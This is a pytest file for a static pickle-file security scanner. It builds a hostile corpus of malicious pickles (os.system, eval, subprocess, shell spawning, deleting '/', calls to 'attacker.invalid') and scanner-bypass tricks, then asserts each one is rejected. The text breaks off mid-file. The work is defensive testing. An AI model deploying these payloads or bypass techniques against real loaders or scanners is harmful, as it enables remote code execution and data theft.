"""The static pickle scanner against a generated corpus of hostile and benign pickles.

The hostile corpus is assembled in code (by `pickle.dumps` with a `__reduce__` where it can
write the payload, by `pickle_forge.Forge` opcode by opcode where it cannot), so no binary
fixture is committed, and it is never unpickled: only a few benign forged joblib files are
loaded, to show the forge writes what joblib reads. The techniques follow the published
bypasses of modelscan, fickling and picklescan (GHSA advisories, CPython's FRAME-length
issue, joblib's NumpyArrayWrapper layout; `shared/research/peers-supply-chain-audit.md`
section 2) plus what this suite found: numpy trusting a dtype state's object flags,
`__setstate__` shadowing through a second BUILD, import-only GLOBALs, limits hit before
the payload in a probed protocol 0 stream, and an exponential structured-dtype check.

Every hostile case must be rejected, and where it is meaningful with the expected finding
code, a reason naming the culprit and the offset of the offending opcode. Every benign case
(fitted scikit-learn estimators, numpy arrays and random generators, builtins containers,
through `pickle.dumps` and `joblib.dump` with every compressor joblib has without extras)
must be accepted with no finding and the right format.
"""

from __future__ import annotations

import bz2
import collections
import datetime
import decimal
import fractions
import functools
import gzip
import io
import lzma
import marshal
import os
import pickle
import pickletools
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import joblib
import numpy as np
import pytest

from bastion.supplychain.scan import ArtifactFormat, FileReport, ScanLimits, Scanner
from unit.supplychain.pickle_forge import (
    Forge,
    call_pickle,
    dtype_ops,
    padding_for,
    wrapper_head,
    wrapper_state,
)

# -- helpers ---------------------------------------------------------------------------------

SCANNER = Scanner()


class _Reduce:
    """An object whose pickle is `func(*args)`: how a real attacker writes a payload."""

    def __init__(self, func: object, *args: object) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return (self.func, self.args)


def first_import(data: bytes) -> int:
    """Offset of the first GLOBAL / STACK_GLOBAL / INST in a well-formed pickle."""
    for op, _arg, pos in pickletools.genops(data):
        if op.name in ("GLOBAL", "STACK_GLOBAL", "INST"):
            assert pos is not None
            return pos
    raise AssertionError("no import in the pickle")


@dataclass(frozen=True)
class Hostile:
    id: str
    data: bytes
    code: str | None = None  # a finding with this code must be present ...
    culprit: str | None = None  # ... whose reason names this ...
    offset: int | None = None  # ... at this offset
    also: tuple[str, ...] = ()  # further codes that must be present
    limits: ScanLimits | None = None


def scan(data: bytes, limits: ScanLimits | None = None, name: str = "artifact") -> FileReport:
    scanner = SCANNER if limits is None else Scanner(limits=limits)
    return scanner.scan_bytes(data, name)


def compress(codec: str, data: bytes) -> bytes:
    if codec == "gzip":
        return gzip.compress(data, mtime=0)
    if codec == "bz2":
        return bz2.compress(data)
    if codec == "xz":
        return lzma.compress(data, format=lzma.FORMAT_XZ)
    if codec == "lzma":
        return lzma.compress(data, format=lzma.FORMAT_ALONE)
    if codec == "zlib":
        return zlib.compress(data)
    raise ValueError(codec)


CODECS = ("gzip", "bz2", "xz", "lzma", "zlib")


# -- the hostile corpus ------------------------------------------------------------------------

# (module, name, args): each is a call a pickle can make through REDUCE. Sources: modelscan's
# and picklescan's deny-lists and their bypass reports, fickling's test_bypasses.py (GHSAs),
# picklescan GHSA-vvpj-8cmc-gx39 and CVE-2025-1716 / CVE-2026-56315, modelscan #330 #331 #338.
NESTED = b"cos\nsystem\n(S'id'\ntR."
GADGETS: tuple[tuple[str, str, tuple[object, ...]], ...] = (
    ("os", "system", ("id",)),
    ("posix", "system", ("id",)),
    ("nt", "system", ("id",)),
    ("os", "popen", ("id",)),
    ("os", "execv", ("/bin/sh", ("sh",))),
    ("os", "remove", ("/etc/hosts",)),
    ("builtins", "eval", ("__import__('os').system('id')",)),
    ("builtins", "exec", ("import os; os.system('id')",)),
    ("builtins", "compile", ("1", "<x>", "eval")),
    ("builtins", "__import__", ("os",)),
    ("builtins", "getattr", ("x", "upper")),
    ("builtins", "setattr", ("x", "y", 1)),
    ("builtins", "delattr", ("x", "y")),
    ("builtins", "open", ("/etc/hosts", "w")),
    ("builtins", "breakpoint", ()),
    ("builtins", "input", ()),
    ("builtins", "print", ("x",)),
    ("builtins", "globals", ()),
    ("builtins", "vars", ()),
    ("builtins", "type", ("X", (), None)),
    ("builtins", "object", ()),
    ("builtins", "help", ()),
    ("builtins", "map", ("x", "y")),
    ("builtins", "exit", ()),
    ("__builtin__", "eval", ("1",)),
    ("__builtin__", "apply", ("x",)),
    ("__builtin__", "execfile", ("/tmp/x.py",)),
    ("subprocess", "Popen", (("id",),)),
    ("subprocess", "check_output", (("id",),)),
    ("subprocess", "run", (("id",),)),
    ("subprocess", "call", ("id",)),
    ("subprocess", "getoutput", ("id",)),
    ("_posixsubprocess", "fork_exec", ()),
    ("runpy", "_run_code", ("import os", None)),
    ("runpy", "run_path", ("/tmp/x.py",)),
    ("pty", "spawn", ("/bin/sh",)),
    ("bdb", "Bdb.run", ("import os",)),
    ("pdb", "run", ("import os",)),
    ("cProfile", "run", ("import os",)),
    ("profile", "run", ("import os",)),
    ("timeit", "timeit", ("import os", "pass")),
    ("trace", "Trace.runctx", ("import os",)),
    ("pydoc", "pipepager", ("x", "id")),
    ("code", "InteractiveInterpreter.runsource", ("import os",)),
    ("doctest", "debug_script", ("import os",)),
    ("ctypes", "CDLL", ("libc.so.6",)),
    ("ctypes", "cdll.LoadLibrary", ("libc.so.6",)),
    ("_ctypes", "dlopen", ("libc.so.6", 0)),
    ("marshal", "loads", (b"\xe3",)),
    ("types", "FunctionType", ("code", None)),
    ("types", "CodeType", ()),
    ("importlib", "import_module", ("os",)),
    ("importlib.util", "spec_from_file_location", ("x", "/tmp/x.py")),
    ("_frozen_importlib", "_call_with_frames_removed", ("x",)),
    ("pkgutil", "resolve_name", ("os:system",)),
    ("uuid", "_get_command_stdout", ("id",)),
    ("_osx_support", "_read_output", ("id",)),
    ("_osx_support", "_find_build_tool", ("id",)),
    ("_aix_support", "_read_cmd_output", ("id",)),
    ("imaplib", "IMAP4_stream", ("id",)),
    ("webbrowser", "open", ("https://attacker.invalid/",)),
    ("torch", "load", ("model.pt",)),
    ("torch.serialization", "load", ("model.pt",)),
    ("torch.hub", "load", ("attacker/repo", "model")),
    ("torch.utils.collect_env", "run", ("id",)),
    ("numpy", "load", ("x.npy", None, True)),
    ("numpy.lib.npyio", "load", ("x.npy",)),
    ("numpy", "loadtxt", ("/etc/hosts",)),
    ("numpy", "fromfile", ("/etc/hosts",)),
    ("numpy", "memmap", ("/etc/hosts",)),
    ("numpy", "save", ("/tmp/x.npy", 1)),
    ("numpy.testing._private.utils", "runstring", ("import os", None)),
    ("numpy.f2py", "compile", ("x",)),
    ("numpy.ctypeslib", "load_library", ("libc", "/lib")),
    ("pickle", "loads", (NESTED,)),
    ("_pickle", "loads", (NESTED,)),
    ("pickle", "load", ("x",)),
    ("dill", "loads", (NESTED,)),
    ("cloudpickle", "loads", (NESTED,)),
    ("joblib", "load", ("x.joblib",)),
    ("joblib.numpy_pickle", "load", ("x.joblib",)),
    ("pandas", "read_pickle", ("x.pkl",)),
    ("pandas", "read_csv", ("https://attacker.invalid/",)),
    ("operator", "attrgetter", ("system",)),
    ("operator", "methodcaller", ("system", "id")),
    ("operator", "itemgetter", ("x",)),
    ("_operator", "attrgetter", ("system",)),
    ("functools", "partial", ("x",)),
    ("functools", "reduce", ("x", "y")),
    ("_functools", "reduce", ("x", "y")),
    ("copyreg", "_reconstructor", ("x", "y", None)),
    ("copy_reg", "_reconstructor", ("x", "y", None)),
    ("copyreg", "__newobj__", ("x",)),
    ("shutil", "rmtree", ("/",)),
    ("socket", "create_connection", (("attacker.invalid", 80),)),
    ("urllib.request", "urlopen", ("https://attacker.invalid/",)),
    ("http.client", "HTTPSConnection", ("attacker.invalid",)),
    ("requests", "get", ("https://attacker.invalid/",)),
    ("requests.api", "get", ("https://attacker.invalid/",)),
    ("aiohttp.client", "ClientSession", ()),
    ("smtplib", "SMTP", ("attacker.invalid",)),
    ("ftplib", "FTP", ("attacker.invalid",)),
    ("telnetlib", "Telnet", ("attacker.invalid",)),
    ("asyncio", "create_subprocess_shell", ("id",)),
    ("asyncio.subprocess", "create_subprocess_exec", ("id",)),
    ("multiprocessing.util", "spawnv_passfds", ("/bin/sh", ("sh",), ())),
    ("mailcap", "findmatch", ({},)),
    ("_pyrepl.pager", "pipe_pager", ("x", "id")),
    ("pip", "main", (("install", "attacker"),)),
    ("pip._internal.cli.main", "main", ()),
    ("_xxsubinterpreters", "run_string", (0, "import os")),
    ("_interpreters", "run_string", (0, "import os")),
    ("sys", "exit", (1,)),
    ("signal", "raise_signal", (9,)),
    ("threading", "Thread", ()),
    ("_thread", "start_new_thread", ("x", ())),
    ("tempfile", "mkstemp", ()),
    ("glob", "glob", ("/etc/*",)),
    ("linecache", "getline", ("/etc/hosts", 1)),
    ("io", "open", ("/etc/hosts",)),
    ("_io", "open", ("/etc/hosts",)),
    ("_io", "FileIO", ("/etc/hosts", "w")),
    ("codecs", "open", ("/etc/hosts", "w")),
    ("zipimport", "zipimporter", ("/tmp/x.zip",)),
    ("site", "main", ()),
    ("venv", "create", ("/tmp/v",)),
    ("ensurepip", "bootstrap", ()),
    ("logging.config", "listen", (9999,)),
    ("atexit", "register", ("x",)),
    ("gc", "get_objects", ()),
    ("inspect", "getsource", ("x",)),
    ("sklearn.datasets", "fetch_openml", ("x",)),
    ("yaml", "unsafe_load", ("!!python/object/apply:os.system ['id']",)),
    ("antigravity", "geohash", (1.0, 2.0, b"x")),
)

# Names that spoof an allow-listed module or reach a gadget through an allowed one by a dotted
# attribute path (modelscan #85 #89 #330, fickling GHSA-5j3x-jp52-966f and -cffv-grgg-g429).
SPOOFS: tuple[tuple[str, str], ...] = (
    ("numpy", "__builtins__"),
    ("numpy", "__builtins__.eval"),
    ("numpy", "ndarray.__reduce__"),
    ("numpy", "ndarray.__reduce_ex__"),
    ("numpy", "dtype.__class__"),
    ("numpy", "dtype.__new__"),
    ("numpy", "testing"),
    ("numpy", "core.multiarray._reconstruct"),
    ("numpy", "random._pickle.__randomstate_ctor"),
    ("numpy.core", "multiarray._reconstruct"),
    ("numpy._core.multiarray", "_reconstruct.__globals__"),
    ("numpy.random._pickle", "__builtins__"),
    ("numpy.random._pickle", "__randomstate_ctor.__globals__"),
    ("collections", "OrderedDict.__class__"),
    ("collections", "OrderedDict.fromkeys"),
    ("collections", "_collections_abc"),
    ("builtins", "dict.__class__.__subclasses__"),
    ("builtins", "str.__class__"),
    ("builtins", "__loader__"),
    ("builtins", "__spec__.loader"),
    ("builtins", "getattr.__self__"),
    ("datetime", "sys"),
    ("decimal", "sys.modules"),
    ("sklearn.pipeline", "Pipeline.__init__.__globals__"),
    ("sklearn.pipeline", "Pipeline.__getstate__"),
    ("sklearn.utils._bunch", "Bunch.__getattr__"),
    ("joblib.numpy_pickle", "NumpyArrayWrapper.read_array"),
    ("joblib.numpy_pickle", "pickle"),
    ("numpy.random._pickle.os", "system"),
    ("numpyx", "dtype"),
    ("Numpy", "dtype"),
    ("numpy ", "dtype"),
    ("numpy", "dtype "),
    ("numpy", "dtype\t"),
    ("numpy.", "dtype"),
    ("numpy", "dtype."),
    ("numpy", ".dtype"),
    ("collections", "OrderedDict\x00"),
    ("__main__", "Model"),
    ("sklearn", "pipeline.Pipeline"),
)


def _gadget_cases() -> list[Hostile]:
    cases = []
    for module, name, args in GADGETS:
        for proto in (0, 2, 4):
            f = call_pickle(module, name, *args, proto=proto)
            cases.append(
                Hostile(
                    f"gadget-{module}.{name}-p{proto}",
                    f.data,
                    "pickle.global_not_allowed",
                    f"{module}.{name}",
                    f.marks["import"],
                )
            )
    for module, name in SPOOFS:
        f = call_pickle(module, name, proto=4)
        culprit = f"{module}.{name}" if (module + name).isprintable() else None
        cases.append(
            Hostile(
                f"spoof-{module!r}.{name!r}",
                f.data,
                "pickle.global_not_allowed",
                culprit,
                f.marks["import"],
            )
        )
    return cases


def _reduce_cases() -> list[Hostile]:
    """What a real attacker's `__reduce__` produces, in every protocol."""
    cases = []
    payloads: tuple[tuple[str, object, tuple[object, ...]], ...] = (
        ("os.system", os.system, ("id",)),
        ("builtins.eval", eval, ("1",)),
        ("builtins.exec", exec, ("pass",)),
        ("builtins.getattr", getattr, ("x", "upper")),
        ("builtins.open", open, ("/etc/hosts",)),
        ("functools.partial", functools.partial, (print,)),
        ("pickle.loads", pickle.loads, (NESTED,)),
        ("collections.namedtuple", collections.namedtuple, ("X", "a")),
    )
    for label, func, args in payloads:
        for proto in range(6):
            data = pickle.dumps(_Reduce(func, *args), protocol=proto)
            # os.system is posix.system here; below protocol 3 builtins are __builtin__ and
            # _pickle is pickle (the Python 2 names the unpickler maps back)
            module = {"builtins": "__builtin__", "_pickle": "pickle"}.get(func.__module__)
            if proto >= 3 or module is None:
                module = func.__module__
            cases.append(
                Hostile(
                    f"reduce-{label}-p{proto}",
                    data,
                    "pickle.global_not_allowed",
                    f"{module}.{func.__qualname__}",
                    first_import(data),
                )
            )
    return cases


def _structure_cases() -> list[Hostile]:
    cases: list[Hostile] = []

    def add(
        id_: str,
        f: Forge,
        code: str | None,
        culprit: str | None = None,
        label: str | None = None,
        also: tuple[str, ...] = (),
    ) -> None:
        cases.append(Hostile(id_, f.data, code, culprit, f.marks[label] if label else None, also))

    # -- calls on call results (getattr chains, allowed constructors chained into gadgets) --
    f = Forge(4).call("collections", "OrderedDict").empty_tuple().at("bad").reduce().stop()
    add("call-on-result", f, "pickle.call_on_result", "collections.OrderedDict", "bad")
    f = Forge(2).mark().call("builtins", "dict").at("bad").obj().stop()
    add("obj-class-is-call-result", f, "pickle.call_on_result", "builtins.dict", "bad")
    f = Forge(4).call("builtins", "dict").empty_tuple().at("bad").newobj().stop()
    add("newobj-on-call-result", f, "pickle.call_on_result", "builtins.dict", "bad")
    f = Forge(4).call("builtins", "dict").empty_tuple().empty_dict().at("bad").newobj_ex().stop()
    add("newobj-ex-on-call-result", f, "pickle.call_on_result", "builtins.dict", "bad")
    # getattr(getattr(__import__("os"), "system"))("id"): every step a call on a call result
    f = Forge(2)
    f.at("g").global_("builtins", "getattr").put(0).pop()
    f.get(0).mark().global_("builtins", "__import__").mark().str_("os").tuple_().reduce()
    f.str_("system").tuple_().reduce()
    f.mark().str_("id").tuple_().at("bad").reduce().stop()
    add(
        "getattr-chain",
        f,
        "pickle.global_not_allowed",
        "builtins.getattr",
        "g",
        also=("pickle.call_on_result",),
    )
    # types.FunctionType(marshal.loads(code), {})(): the code never appears as a global
    code = marshal.dumps(compile("1", "<payload>", "eval"))
    f = Forge(4).import_("types", "FunctionType")
    function_type = f.marks["import"]
    f.mark().call("marshal", "loads", code).empty_dict().tuple_().reduce()
    f.empty_tuple().reduce().stop()
    cases.append(
        Hostile(
            "marshal-function-chain",
            f.data,
            "pickle.global_not_allowed",
            "types.FunctionType",
            function_type,
            also=("pickle.call_on_result",),
        )
    )
    # -- STACK_GLOBAL operands --
    f = Forge(4).str_("os").put(0).pop().str_("system").put(1).pop()
    f.get(0).get(1).at("sg").stack_global().mark().str_("id").tuple_().reduce().stop()
    add("stack-global-memo-binput", f, "pickle.global_not_allowed", "os.system", "sg")
    f = Forge(4).str_("subprocess").memoize().str_("Popen").memoize().pop().pop()
    f.get(0).get(1).at("sg").stack_global().mark().str_("id").tuple_().reduce().stop()
    add("stack-global-memo-memoize", f, "pickle.global_not_allowed", "subprocess.Popen", "sg")
    f = Forge(4).str_("builtins").put(0).str_("dict").at("ok").stack_global().pop()
    f.get(0).str_("eval").at("sg").stack_global().mark().str_("1").tuple_().reduce().stop()
    add("stack-global-memo-reused-module", f, "pickle.global_not_allowed", "builtins.eval", "sg")
    f = Forge(4).call("builtins", "str", "os").str_("system").at("sg").stack_global()
    f.mark().str_("id").tuple_().reduce().stop()
    add("stack-global-call-result", f, "pickle.dynamic_global", "builtins.str", "sg")
    f = Forge(4).bytes_(b"os").bytes_(b"system").at("sg").stack_global().stop()
    add("stack-global-bytes", f, "pickle.dynamic_global", "bytes constant", "sg")
    f = Forge(4).import_("numpy", "dtype")
    f.import_("numpy", "ndarray")
    f.at("sg").stack_global().stop()
    add("stack-global-globals", f, "pickle.dynamic_global", "numpy.dtype", "sg")
    f = Forge(4).op(pickle.SHORT_BINSTRING, b"\x02os").op(pickle.SHORT_BINSTRING, b"\x06system")
    f.at("sg").stack_global().mark().str_("id").tuple_().reduce().stop()
    add("stack-global-binstring", f, "pickle.global_not_allowed", "os.system", "sg")
    f = Forge(4).int_(1).str_("system").at("sg").stack_global().stop()
    add("stack-global-int", f, "pickle.dynamic_global", "int constant", "sg")
    # -- INST and OBJ --
    f = Forge(None).mark().str_("id").at("i").inst("os", "system").stop()
    add("inst-p0", f, "pickle.global_not_allowed", "INST os.system", "i")
    f = Forge(2).mark().str_("id").at("i").inst("subprocess", "getoutput").stop()
    add("inst-p2", f, "pickle.global_not_allowed", "INST subprocess.getoutput", "i")
    f = Forge(2).mark().str_("x").str_("rot13").at("i").inst("_codecs", "encode").stop()
    add("inst-constrained", f, "pickle.call_args_not_allowed", "_codecs.encode", "i")
    f = Forge(2).mark().at("g").global_("os", "system").str_("id").obj().stop()
    add("obj-p2", f, "pickle.global_not_allowed", "GLOBAL os.system", "g")
    f = Forge(4).mark().import_("builtins", "exec").str_("pass").obj().stop()
    add("obj-p4", f, "pickle.global_not_allowed", "STACK_GLOBAL builtins.exec", "import")
    f = Forge(2).mark().at("bad").obj().none().stop()
    add("obj-without-class", f, "pickle.stack_underflow", "OBJ", "bad")
    f = Forge(4).import_("os", "system").mark().str_("id").tuple_().empty_dict().newobj_ex()
    add("newobj-ex-gadget", f.stop(), "pickle.global_not_allowed", "os.system", "import")
    f = Forge(4).import_("numpy.random._pickle", "__bit_generator_ctor")
    f.mark().str_("MT19937").tuple_().empty_dict().at("bad").newobj_ex().stop()
    add("newobj-ex-constrained", f, "pickle.call_args_not_allowed", "__bit_generator_ctor", "bad")
    # -- EXT (copyreg extension registry), persistent ids, out-of-band buffers --
    for op, arg in (("ext1", 1), ("ext2", 0x1234), ("ext4", 0x12345678)):
        f = Forge(2).at("ext")
        getattr(f, op)(arg)
        f.mark().str_("id").tuple_().reduce().stop()
        add(f"{op}", f, "pickle.ext_opcode", f"{op.upper()} {arg}", "ext")
    f = Forge(None).at("p").persid("0").stop()
    add("persid", f, "pickle.persistent_id", "PERSID", "p")
    f = Forge(2).str_("storage").at("p").binpersid().stop()
    add("binpersid", f, "pickle.persistent_id", "BINPERSID", "p")
    f = Forge(2).mark().str_("storage").import_("torch", "FloatStorage").str_("0").str_("cpu")
    f.int_(4).tuple_().at("p").binpersid().stop()
    add("binpersid-torch-shaped-outside-torch", f, "pickle.persistent_id", "BINPERSID", "p")
    f = Forge(5).at("b").next_buffer().stop()
    add("next-buffer", f, "pickle.out_of_band_buffer", "NEXT_BUFFER", "b")
    f = Forge(5).bytes_(b"x").at("b").readonly_buffer().stop()
    add("readonly-buffer", f, "pickle.out_of_band_buffer", "READONLY_BUFFER", "b")
    buffers: list[pickle.PickleBuffer] = []
    data = pickle.dumps(pickle.PickleBuffer(b"abc"), protocol=5, buffer_callback=buffers.append)
    assert buffers  # really out of band
    cases.append(Hostile("out-of-band-buffer-dumps", data, "pickle.out_of_band_buffer"))
    # -- mutating a global (monkey-patching a class) --
    for key in ("__setstate__", "__reduce__", "__getattr__"):
        f = Forge(4).import_("collections", "OrderedDict").empty_dict().str_(key)
        f.import_("builtins", "dict").setitem().at("b").build().stop()
        add(f"build-on-global-{key}", f, "pickle.mutates_global", "collections.OrderedDict", "b")
    f = Forge(4).import_("sklearn.pipeline", "Pipeline").none().empty_dict().str_("__setstate__")
    f.import_("builtins", "dict").setitem().tuple2().at("b").build().stop()
    add("build-on-global-slotstate", f, "pickle.mutates_global", "sklearn.pipeline.Pipeline", "b")
    f = Forge(4).import_("builtins", "dict").put(0).pop().none().pop().get(0).empty_dict()
    f.at("b").build().stop()
    add("build-on-memoized-global", f, "pickle.mutates_global", "builtins.dict", "b")
    f = Forge(4).import_("builtins", "set").dup().empty_dict().at("b").build().pop().stop()
    add("build-on-dup-global", f, "pickle.mutates_global", "builtins.set", "b")
    f = Forge(4).import_("builtins", "dict").str_("k").str_("v").at("s").setitem().stop()
    add("setitem-on-global", f, "pickle.mutates_global", "builtins.dict", "s")
    f = Forge(4).import_("builtins", "dict").mark().str_("k").str_("v").at("s").setitems().stop()
    add("setitems-on-global", f, "pickle.mutates_global", "builtins.dict", "s")
    f = Forge(4).import_("builtins", "list").str_("v").at("s").append().stop()
    add("append-on-global", f, "pickle.mutates_global", "builtins.list", "s")
    f = Forge(4).import_("builtins", "list").mark().str_("v").at("s").appends().stop()
    add("appends-on-global", f, "pickle.mutates_global", "builtins.list", "s")
    f = Forge(4).import_("builtins", "set").mark().str_("v").at("s").additems().stop()
    add("additems-on-global", f, "pickle.mutates_global", "builtins.set", "s")
    # -- a first BUILD that shadows __setstate__ / append / extend / add, then a second use --
    f = Forge(4).import_("sklearn.preprocessing._data", "StandardScaler").empty_tuple().newobj()
    f.empty_dict().str_("__setstate__").import_("numpy.random._pickle", "__randomstate_ctor")
    f.setitem().build().str_("MT19937").at("b").build().stop()
    add("build-twice-setstate-shadowing", f, "pickle.bad_build", "again", "b")
    for method, op in (("append", "append"), ("extend", "appends"), ("add", "additems")):
        f = Forge(4).import_("sklearn.utils._bunch", "Bunch").empty_tuple().newobj()
        f.empty_dict().str_(method).import_("numpy.random._pickle", "__bit_generator_ctor")
        f.setitem().build()
        if op == "append":
            f.import_("collections", "OrderedDict").at("m").append()
        else:
            f.mark().import_("collections", "OrderedDict").at("m")
            getattr(f, op)()
        add(f"{op}-after-build-{method}-shadowing", f.stop(), "pickle.bad_build", "after", "m")
    f = Forge(4).call("builtins", "dict").empty_dict().build().empty_dict().at("b").build()
    add("build-twice-on-call", f.stop(), "pickle.bad_build", "builtins.dict", "b")
    f = Forge(4).empty_list().empty_dict().at("b").build().stop()
    add("build-on-list", f, "pickle.bad_build", "a list", "b")
    f = Forge(4).str_("x").empty_dict().at("b").build().stop()
    add("build-on-str", f, "pickle.bad_build", "str constant", "b")
    # -- a call whose result is discarded still runs (fickling GHSA-mxhj-88fx-4pcv) --
    f = Forge(4).call("os", "system", "id").pop().none().stop()
    add("popped-call", f, "pickle.global_not_allowed", "os.system", "import")
    f = Forge(4).mark().call("os", "system", "id").pop_mark().none().stop()
    add("pop-mark-call", f, "pickle.global_not_allowed", "os.system", "import")
    f = Forge(4).none().call("builtins", "exec", "pass").pop().pop().none().stop()
    add("popped-call-under-value", f, "pickle.global_not_allowed", "builtins.exec", "import")
    f = Forge(4).call("collections", "Counter").empty_tuple().at("bad").reduce().pop().none()
    add("popped-call-on-result", f.stop(), "pickle.call_on_result", "Counter", "bad")
    f = Forge(4).empty_dict().str_("k").call("os", "system", "id").setitem().pop().none().stop()
    add("call-hidden-in-discarded-dict", f, "pickle.global_not_allowed", "os.system", "import")
    # -- memo tricks --
    f = Forge(4).at("g").get(7).stop()
    add("memo-get-unset", f, "pickle.memo_missing", "memo slot 7", "g")
    f = Forge(4).at("g").op(pickle.LONG_BINGET, struct.pack("<I", 2**31)).stop()
    add("memo-long-get-unset", f, "pickle.memo_missing", "memo slot", "g")
    f = Forge(2).none().op(pickle.PUT, b"0\n").pop().at("g").op(pickle.GET, b"1\n").stop()
    add("memo-text-get-unset", f, "pickle.memo_missing", "memo slot 1", "g")
    f = Forge(2).none().at("p").op(pickle.PUT, b"-1\n").stop()
    add("memo-put-negative", f, "pickle.malformed", "negative memo index", "p")
    f = Forge(4).str_("collections").put(0).pop().str_("os").at("p").put(0).pop()
    f.get(0).str_("system").stack_global().mark().str_("id").tuple_().reduce().stop()
    add(
        "memo-put-overwrite",
        f,
        "pickle.memo_overwrite",
        "memo slot 0",
        "p",
        also=("pickle.global_not_allowed",),
    )
    f = Forge(4).none().put(1).pop().none().at("p").memoize().pop().none().stop()
    add("memo-memoize-overwrite", f, "pickle.memo_overwrite", "memo slot 1", "p")
    f = Forge(4).at("g").get(0).str_("system").stack_global().stop()
    add("memo-get-before-put", f, "pickle.memo_missing", "memo slot 0", "g")
    # -- after STOP --
    benign = pickle.dumps({"a": [1, 2.5]}, protocol=4)
    hostile = pickle.dumps(_Reduce(os.system, "id"), protocol=4)
    cases.append(
        Hostile("stacked-pickles-p4", benign + hostile, "pickle.trailing_data", None, len(benign))
    )
    cases.append(
        Hostile("opcodes-after-stop", benign + NESTED, "pickle.trailing_data", None, len(benign))
    )
    cases.append(
        Hostile("junk-after-stop", benign + b"\x00junk", "pickle.trailing_data", None, len(benign))
    )
    benign0 = pickle.dumps({"a": [1, 2.5]}, protocol=0)
    cases.append(
        Hostile(
            "stacked-pickles-p0",
            benign0 + NESTED,
            "pickle.global_not_allowed",
            "os.system",
            len(benign0),
            also=("pickle.trailing_data",),
        )
    )
    # -- malformed streams --
    for byte in (0x00, 0x41, 0x7B, 0x99, 0xFF):
        f = Forge(4).at("u").raw(bytes([byte])).stop()
        add(f"unknown-opcode-{byte:02x}", f, "pickle.unknown_opcode", f"0x{byte:02x}", "u")
    f = Forge(4).call("os", "system", "id").at("u").raw(b"\xa0").stop()
    add("unknown-opcode-after-call", f, "pickle.global_not_allowed", "os.system", "import")
    f = Forge(2).none().pop().at("p").proto(4).none().stop()
    add("proto-not-first", f, "pickle.bad_protocol", "not the first", "p")
    f = Forge(None).none().pop().at("p").proto(2).none().stop()
    add("proto-not-first-p0", f, "pickle.bad_protocol", "not the first", "p")
    for version in (6, 0xFF):
        f = Forge(None).at("p").proto(version).call("os", "system", "id").stop()
        add(f"protocol-{version}", f, "pickle.bad_protocol", f"protocol {version}", "p")
    f = Forge(4).str_("x").at("s").stop().none()
    cases.append(Hostile("stop-then-value", f.data, "pickle.trailing_data"))
    f = Forge(4).none().none().at("s").stop()
    add("leftover-stack", f, "pickle.unbalanced_stack", "STOP", "s")
    f = Forge(4).mark().none().at("s").stop()
    add("leftover-mark", f, "pickle.unbalanced_stack", "STOP", "s")
    f = Forge(4).at("s").stop()
    add("stop-on-empty-stack", f, "pickle.stack_underflow", "STOP", "s")
    f = Forge(4).at("t").tuple_().stop()
    add("tuple-without-mark", f, "pickle.mark_mismatch", "TUPLE", "t")
    f = Forge(4).mark().none().at("d").dict_().stop()
    add("dict-odd-items", f, "pickle.malformed", "odd number", "d")
    f = Forge(4).at("r").reduce().stop()
    add("reduce-on-empty-stack", f, "pickle.stack_underflow", "REDUCE", "r")
    f = Forge(4).none().mark().at("r").tuple1().stop()
    add("pop-through-mark", f, "pickle.stack_underflow", "TUPLE1", "r")
    f = Forge(2).at("i").op(pickle.INT, b"12x\n").stop()
    add("int-not-a-number", f, "pickle.malformed", "not an integer", "i")
    f = Forge(2).at("s").op(pickle.STRING, b"id\n").stop()
    add("string-unquoted", f, "pickle.malformed", "quoted", "s")
    f = Forge(4).at("s").op(pickle.SHORT_BINUNICODE, b"\x02\xff\xfe").stop()
    add("unicode-invalid-utf8", f, "pickle.malformed", "UTF-8", "s")
    cases.append(
        Hostile(
            "global-invalid-utf8",
            Forge(2).data + b"cos\xff\nsystem\n.",
            "pickle.malformed",
            "utf-8",
            2,
        )
    )
    # -- FRAME tricks: the C unpickler ignores frame boundaries, the Python one enforces them --
    f = Forge(4).frame(3).at("s").str_("abcdefgh").stop()
    add("frame-shorter-than-opcode", f, "pickle.frame_mismatch", "past the end", "s")
    inner = Forge(None).call("os", "system", "id").data
    f = Forge(4).frame(2).at("s").bytes_(inner).pop().none().stop()
    add("frame-ends-inside-binbytes", f, "pickle.frame_mismatch", "past the end", "s")
    f = Forge(4).frame(100).none().at("s").stop()
    add("frame-beyond-stop", f, "pickle.frame_mismatch", "beyond STOP", "s")
    f = Forge(4).frame(2**63).none().at("s").stop()
    add("frame-huge", f, "pickle.frame_mismatch", "beyond STOP", "s")
    f = Forge(4).frame(30).none().pop().at("s").frame(2).none().stop()
    add("frame-inside-frame", f, "pickle.frame_mismatch", "previous frame", "s")
    # -- lengths that swallow STOP or hide opcodes --
    f = Forge(4).at("s").op(pickle.BINUNICODE, struct.pack("<I", 100) + b"N.").stop()
    add("binunicode-swallows-stop", f, "pickle.truncated", "BINUNICODE", "s")
    f = Forge(4).at("s").op(pickle.BINBYTES, struct.pack("<I", 50) + b"N.")
    add("binbytes-swallows-stop", f, "pickle.truncated", "BINBYTES", "s")
    f = Forge(4).op(pickle.BINUNICODE, struct.pack("<I", 2) + b"N.").pop()
    f.call("os", "system", "id").stop()
    add("fake-stop-inside-unicode", f, "pickle.global_not_allowed", "os.system", "import")
    f = Forge(4).op(pickle.SHORT_BINBYTES, b"\x02N.").pop()
    f.call("subprocess", "Popen", "id").stop()
    add("fake-stop-inside-bytes", f, "pickle.global_not_allowed", "subprocess.Popen", "import")
    huge = (
        ("binbytes8", pickle.BINBYTES8, struct.pack("<Q", 2**63), "pickle.truncated"),
        ("binunicode8", pickle.BINUNICODE8, struct.pack("<Q", 2**64 - 1), "pickle.truncated"),
        ("bytearray8", pickle.BYTEARRAY8, struct.pack("<Q", 2**62), "pickle.truncated"),
        ("binunicode", pickle.BINUNICODE, struct.pack("<I", 2**32 - 1), "pickle.truncated"),
        ("binbytes", pickle.BINBYTES, struct.pack("<I", 2**32 - 1), "pickle.truncated"),
        ("long4", pickle.LONG4, struct.pack("<i", 2**31 - 1), "pickle.truncated"),
        ("long4-negative", pickle.LONG4, struct.pack("<i", -5), "pickle.malformed"),
        ("binstring-negative", pickle.BINSTRING, struct.pack("<i", -1), "pickle.malformed"),
        ("binstring", pickle.BINSTRING, struct.pack("<i", 2**31 - 1), "pickle.truncated"),
    )
    for name, op, arg, code in huge:
        f = Forge(4).at("s").op(op, arg + b"N.")
        add(f"huge-length-{name}", f, code, None, "s")
    # -- protocol 0 without STOP: pickle.load runs the call before it fails at the end --
